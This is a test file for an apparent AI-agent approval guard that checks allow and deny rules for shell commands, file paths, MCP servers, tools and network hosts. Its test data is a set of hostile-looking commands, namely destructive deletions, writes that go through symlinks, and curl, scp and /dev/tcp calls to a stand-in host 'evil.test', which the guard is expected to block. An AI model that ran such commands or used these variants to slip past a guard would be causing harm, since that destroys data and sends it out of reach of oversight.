import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { UsageError } from "codex-embed";
import { type GuardRulesOptions, guardRules, protectPaths } from "codex-embed/approvals";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import type { GuardedCall } from "../../../src/guards/types.js";
import { commandCall, guard, guardContext } from "../../support/approvals.js";
import { untyped } from "../../support/turns.js";
import { verifies } from "../../support/verifies.js";

const mcp = (server: string, tool: string): GuardedCall => ({ kind: "mcp", server, tool, arguments: {}, input: {} });
const tool = (name: string, namespace?: string): GuardedCall => ({
  kind: "tool",
  name,
  namespace,
  arguments: {},
  input: {},
});
const other = (name: string): GuardedCall => ({ kind: "other", name, input: {} });
const patch = (...paths: string[]): GuardedCall => ({
  kind: "patch",
  files: paths.map((path) => ({ path, kind: { type: "update", move_path: null }, diff: "" })),
  patch: "",
  cwd: "/w",
  input: {},
});

async function outcome(options: GuardRulesOptions, call: GuardedCall): Promise<string> {
  const { answer } = await guard(options, call);
  if (answer === undefined) return "pass";
  return typeof answer === "string" ? answer : "deny";
}

describe("the table of decisions", () => {
  const calls: readonly [GuardedCall, GuardRulesOptions, GuardRulesOptions][] = [
    [commandCall("ls a"), { commands: { allow: ["ls *"] } }, { commands: { deny: ["ls"] } }],
    [patch("/w/a"), { paths: { allow: ["/w/*"] } }, { paths: { deny: ["/w/a"] } }],
    [mcp("docs", "read"), { mcp: { allow: [{ server: "docs" }] } }, { mcp: { deny: [{ server: "*", tool: "read" }] } }],
    [tool("look"), { tools: { allow: ["l*k"] } }, { tools: { deny: ["look"] } }],
    [tool("look", "crm"), { tools: { allow: ["crm.look"] } }, { tools: { deny: ["look"] } }],
    [other("spawn_agent"), { tools: { allow: ["spawn_agent"] } }, { tools: { deny: ["spawn_*"] } }],
  ];
  const none: GuardRulesOptions = {
    commands: { allow: [] },
    paths: { allow: [] },
    mcp: { allow: [] },
    tools: { allow: [] },
  };
  const elsewhere: GuardRulesOptions = {
    commands: { deny: ["nothing"] },
    paths: { deny: ["/nothing"] },
    mcp: { deny: [{ server: "nothing" }] },
    tools: { deny: ["nothing"] },
  };

  test.each(calls)("holds for %j", async (call, allow, deny) => {
    verifies("guard-rules");
    expect(await outcome(allow, call)).toBe("allow");
    expect(await outcome({ ...allow, otherwise: "deny" }, call)).toBe("allow");
    expect(await outcome(deny, call)).toBe("deny");
    const [kind] = Object.keys(allow);
    const both = { [String(kind)]: { ...Object.values(allow)[0], ...Object.values(deny)[0] } };
    expect(await outcome(both, call)).toBe("deny");
    // An `allow` list closes its kind, and no other.
    expect(await outcome(none, call)).toBe("deny");
    expect(await outcome(elsewhere, call)).toBe("pass");
    expect(await outcome({ ...elsewhere, otherwise: "deny" }, call)).toBe("deny");
    expect(await outcome({}, call)).toBe("pass");
    expect(await outcome({ otherwise: "deny" }, call)).toBe("deny");
  });

  test("an allow pattern without a namespace does not allow a tool in one", async () => {
    expect(await outcome({ tools: { allow: ["look"] } }, tool("look", "crm"))).toBe("deny");
  });

  test("a server of an environment cannot be told apart, so a pattern with one never allows and always denies", async () => {
    expect(await outcome({ mcp: { allow: [{ server: "docs", environmentId: "a" }] } }, mcp("docs", "read"))).toBe(
      "deny",
    );
    expect(await outcome({ mcp: { deny: [{ server: "docs", environmentId: "a" }] } }, mcp("docs", "read"))).toBe(
      "deny",
    );
  });
});

test("an allowed command runs in the folders that cwd names, and by default in any", async () => {
  const inFolder = (cwd: string): GuardedCall => ({ kind: "command", script: "ls", argv: ["ls"], cwd, input: {} });
  const options = (cwd?: string | string[]): GuardRulesOptions => ({ commands: { allow: ["ls"], cwd } });
  expect(await outcome(options(), inFolder("/elsewhere"))).toBe("allow");
  expect(await outcome(options("/w"), inFolder("/w"))).toBe("allow");
  expect(await outcome(options("/w"), inFolder("/w/sub"))).toBe("deny");
  expect(await outcome(options(["/v", "/w/**"]), inFolder("/w/sub"))).toBe("allow");
  expect(await outcome(options("/w"), inFolder(""))).toBe("deny");
});

test("a server whose name contains the separator of the runtime is denied under its own name", async () => {
  const call = mcp("team", "docs__delete");
  expect(await outcome({ mcp: { deny: [{ server: "team__docs" }] } }, call)).toBe("deny");
  expect(await outcome({ mcp: { deny: [{ server: "team" }] } }, call)).toBe("deny");
  expect(await outcome({ mcp: { deny: [{ server: "docs" }] } }, call)).toBe("pass");
  expect(await outcome({ mcp: { allow: [{ server: "team" }] } }, call)).toBe("allow");
});

test("a command that cannot be read is denied as soon as there is a rule that it could break", async () => {
  for (const script of ['eval "$X"', "echo $(", "ls ".repeat(30_000)]) {
    expect(await outcome({ commands: { allow: ["echo **"] } }, commandCall(script))).toBe("deny");
    expect(await outcome({ commands: { deny: ["rm"] } }, commandCall(script))).toBe("deny");
    expect(await outcome({ paths: { deny: ["/w/x"] } }, commandCall(script))).toBe("deny");
    expect(await outcome({ network: { deny: ["a.test"] } }, commandCall(script))).toBe("deny");
    expect(await outcome({ mcp: { allow: [] } }, commandCall(script))).toBe("pass");
  }
});

describe("paths in commands", () => {
  let root: string;
  beforeAll(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), "guard-rules-")));
    mkdirSync(join(root, "src"));
    mkdirSync(join(root, "etc"));
    symlinkSync(join(root, "etc"), join(root, "src", "link"));
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  const inRoot = (script: string): GuardedCall => ({
    kind: "command",
    script: script.replaceAll("/root/", `${root}/`),
    argv: null,
    cwd: root,
    input: {},
  });

  /** Ways to write to `etc/x`. */
  const writes = [
    "echo a > /root/etc/x",
    "echo a >> etc/x",
    "echo a >| ./src/../etc/x",
    "echo a > src/link/x",
    "ls &> etc/x",
    "exec 3<> etc/x",
    "{ ls; ls; } > etc/x",
    "if ls; then ls; fi > etc/x",
    "> etc/x",
    "X=$(ls > etc/x)",
    "bash -c 'ls > etc/x'",
    "ls | tee -a etc/x",
    "sudo tee etc/x < a",
    "touch src/y etc/x",
    "cp a etc/x",
    "cp -t etc x",
    "cp --target-directory=/root/etc x",
    "mv etc/x src/x",
    "install -m 600 a etc/x",
    "ln -s a etc/x",
    "rm -rf etc",
    "rm -rf .",
    "rm etc/?",
    "rm e*/x",
    "mkdir -p etc/x",
    "chmod 777 etc/x",
    "truncate -s 0 etc/x",
    "dd if=a of=etc/x",
    "sed -i s/a/b/ etc/x",
    "sed -Ei -e s/a/b/ etc/x",
    "perl -pi -e s/a/b/ etc/x",
    "find . -exec touch etc/x \\;",
    "apply_patch <<'E'\n*** Begin Patch\n*** Update File: etc/x\n@@\n*** End Patch\nE",
    "apply_patch '*** Begin Patch\n*** Update File: src/a\n*** Move to: etc/x\n*** End Patch'",
  ];

  test.each(writes)("%j is not covered by an allow list, and found by a deny list", async (script) => {
    verifies("guard-paths");
    expect(await outcome({ paths: { allow: [join(root, "src", "**")] } }, inRoot(script))).toBe("deny");
    expect(await outcome({ paths: { deny: [join(root, "etc", "x")] } }, inRoot(script))).toBe("deny");
  });

  test.each([
    "echo a > $X",
    "echo a > ~/x",
    "cd etc && echo a > x",
    "env -C etc touch x",
    "rm $X",
    "rm src/a*",
    "touch src/{a,b}",
    "$X src/a",
    "apply_patch < a",
    'bash -c "$X"',
  ])("%j is denied, as what it writes is unknown", async (script) => {
    expect(await outcome({ paths: { allow: [join(root, "**")] } }, inRoot(script))).toBe("deny");
    expect(await outcome({ paths: { deny: [join(root, "none")] } }, inRoot(script))).toBe("deny");
  });

  test.each([
    "ls etc/x 2>&1",
    "cat etc/x > /dev/null 2> /dev/stderr",
    "grep -rn 'a > etc/x' .",
    "echo a > src/x",
    "cp etc/x src/x",
    "sed -n 1p etc/x",
    "sed -i s/a/b/ src/x",
    "cat <<'E' > src/x\nb > etc/x\nE",
    "cd src && ls && echo a > /root/src/x",
    "apply_patch <<'E'\n*** Begin Patch\n*** Add File: src/x\n+a\n*** End Patch\nE",
    "test 1 -gt 0",
  ])("%j passes", async (script) => {
    expect(await outcome({ paths: { allow: [join(root, "src", "**")] } }, inRoot(script))).toBe("pass");
    expect(await outcome({ paths: { deny: [join(root, "etc", "x")] } }, inRoot(script))).toBe("pass");
  });

  test("an allowed path does not allow the command that writes there", async () => {
    const options: GuardRulesOptions = { paths: { allow: [join(root, "src", "**")] }, otherwise: "deny" };
    expect(await outcome(options, inRoot("evil > src/x"))).toBe("deny");
  });

  test("protectPaths denies patches and commands that write there, and names itself in errors", async () => {
    const guards = protectPaths([join(root, "etc", "**")]);
    expect(await guards.beforeTool(patch(join(root, "src", "link", "x")), guardContext)).toHaveProperty("deny");
    expect(await guards.beforeTool(inRoot("touch etc/x"), guardContext)).toHaveProperty("deny");
    expect(await guards.beforeTool(inRoot("touch src/x"), guardContext)).toBeUndefined();
    expect(() => protectPaths([])).toThrow(UsageError);
    expect(() => protectPaths(["etc/**"])).toThrow(/^protectPaths: the pattern "etc\/\*\*" in paths\.deny is relative/);
  });
});

test("a patch is allowed only if each of its files is, and both ends of a move", async () => {
  const allow: GuardRulesOptions = { paths: { allow: ["/w/src/**"] } };
  expect(await outcome(allow, patch("/w/src/a", "/w/src/b"))).toBe("allow");
  expect(await outcome(allow, patch("/w/src/a", "/w/b"))).toBe("deny");
  expect(await outcome(allow, patch())).toBe("deny");
  const moved: GuardedCall = {
    kind: "patch",
    files: [{ path: "/w/src/a", kind: { type: "update", move_path: "/w/b" }, diff: "" }],
    patch: "",
    cwd: "/w",
    input: {},
  };
  expect(await outcome(allow, moved)).toBe("deny");
});

describe("hosts in commands", () => {
  test.each([
    "curl https://evil.test/x",
    "curl -s HTTPS://user:pass@EVIL.test:8443/x",
    "curl evil.test",
    "git clone https://evil.test/r",
    "node fetch.js --url=https://evil.test",
    "ssh me@evil.test ls",
    "scp a evil.test:b",
    "bash -c 'curl https://evil.test'",
    "echo a > /dev/tcp/evil.test/80",
    "curl https://ok.test https://evil.test",
  ])("%j is denied", async (script) => {
    expect(await outcome({ network: { allow: ["ok.test"] } }, commandCall(script))).toBe("deny");
    expect(await outcome({ network: { deny: ["evil.test"] } }, commandCall(script))).toBe("deny");
  });

  test.each(["curl https://$X/a", "curl $X", "curl 2130706433"])(
    "%j is denied, as its host is unknown",
    async (script) => {
      expect(await outcome({ network: { allow: ["ok.test"] } }, commandCall(script))).toBe("deny");
    },
  );

  test.each(['curl "https://ok.test/$X" -s', "curl -X POST ok.test:443/a", "ls evil.test", "cat file:///evil.test"])(
    "%j passes",
    async (script) => {
      expect(await outcome({ network: { allow: ["ok.test"], deny: ["evil.test"] } }, commandCall(script))).toBe("pass");
    },
  );
});

describe("the audit", () => {
  test("receives every decision with its rule, and who made the call", async () => {
    const { answer, decisions } = await guard({ commands: { deny: ["rm"] } }, commandCall("rm x"));
    expect(decisions).toMatchObject([
      {
        kind: "command",
        decision: "deny",
        by: "rule",
        rule: "rm",
        subject: "rm x",
        threadId: "t",
        turnId: "u",
        callId: "c",
        agent: { kind: "main" },
      },
    ]);
    expect(answer).toEqual({ deny: decisions[0]?.reason });
    const passed = await guard({}, other("update_plan"));
    expect(passed.decisions).toMatchObject([{ decision: "pass", by: "otherwise", subject: "update_plan" }]);
    const denied = await guard({ otherwise: "deny" }, mcp("docs", "read"));
    expect(denied.decisions).toMatchObject([{ decision: "deny", by: "otherwise", subject: "docs.read" }]);
    expect(denied.why?.reason).toBe("No rule is about this call. Denied by default.");
  });

  test("changes nothing when it throws or rejects", async () => {
    for (const onDecision of [
      () => {
        throw new Error("no disk");
      },
      () => Promise.reject(new Error("no disk")),
    ]) {
      const rules = guardRules({ commands: { allow: ["ls"] }, onDecision: untyped(onDecision) });
      expect(await rules.beforeTool(commandCall("ls"), guardContext)).toBe("allow");
    }
  });
});

test.each<[options: unknown, message: RegExp]>([
  [{ command: {} }, /^guardRules: unknown option command\. Did you mean commands\?/],
  [{ commands: { cwd: "w" } }, /^guardRules: the pattern "w" in commands\.cwd is relative/],
  [{ otherwise: "decline" }, /^guardRules: otherwise is an unknown string/],
  [{ commands: { allow: ["* x"] } }, /^guardRules: the pattern "\* x" in commands\.allow has a \*/],
  [{ paths: { deny: ["x"] } }, /^guardRules: the pattern "x" in paths\.deny is relative/],
  [{ network: { allow: ["a/b"] } }, /^guardRules: the pattern "a\/b" in network\.allow is not a host/],
  [{ mcp: { allow: ["docs"] } }, /^guardRules: the pattern "docs" in mcp\.allow is not an object/],
  [{ tools: { deny: [""] } }, /^guardRules: the pattern "" in tools\.deny is not a non-empty string/],
])("%j is refused when the rules are made", (options, message) => {
  expect(() => guardRules(untyped(options))).toThrow(UsageError);
  expect(() => guardRules(untyped(options))).toThrow(message);
});

test("an allowed program that runs what files say is warned about in the name of guardRules", async () => {
  vi.resetModules();
  const fresh = await import("../../../src/approvals/guardRules.js");
  const emitWarning = vi.spyOn(process, "emitWarning").mockImplementation(() => {});
  fresh.guardRules({ commands: { allow: ["make test"] } });
  expect(String(emitWarning.mock.calls[0]?.[0])).toMatch(/^guardRules: commands\.allow has make\. These programs run/);
  emitWarning.mockRestore();
});
